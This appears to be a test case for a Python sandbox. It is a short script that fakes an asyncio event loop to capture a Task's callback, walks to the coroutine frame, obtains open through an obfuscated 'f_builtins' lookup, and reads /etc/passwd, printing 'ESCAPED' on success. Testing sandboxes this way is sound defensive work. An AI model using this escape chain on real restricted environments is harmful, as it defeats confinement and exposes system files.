# tries: a loop of the program's is handed the inside of a task
# class: async
# stops: 1 2 3 4
import asyncio


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


class Loop(asyncio.AbstractEventLoop):
    def get_debug(self):
        return False

    def call_soon(self, callback, *args, context=None):
        self.callback = callback

    def is_running(self):
        return True


async def waits():
    return 1


loop = Loop()
task = asyncio.Task(waits(), loop=loop)
step = loop.callback
if step is not None:
    print("REACHED")
use(pick(step.__self__.get_stack()[0]))
